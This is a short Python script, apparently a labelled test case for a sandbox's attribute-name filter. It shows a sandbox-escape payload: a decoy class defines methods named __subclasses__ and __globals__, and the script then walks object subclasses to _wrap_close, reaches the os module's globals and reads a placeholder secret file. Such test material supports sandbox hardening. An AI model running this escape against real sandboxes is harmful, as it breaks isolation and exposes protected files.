# attack: methods that bear the refused names make these names the script's own; then they are read on anything
# family: attribute
class Mine:
    def __subclasses__(self):
        pass
    def __globals__(self):
        pass
for one in object.__subclasses__():
    if one.__name__ == "_wrap_close":
        print("REACHED", one.__init__.__globals__["getpid"])
        space = one.__init__.__globals__
        print(space["read"](space["open"]("$SECRET_FILE", 0), 4096))
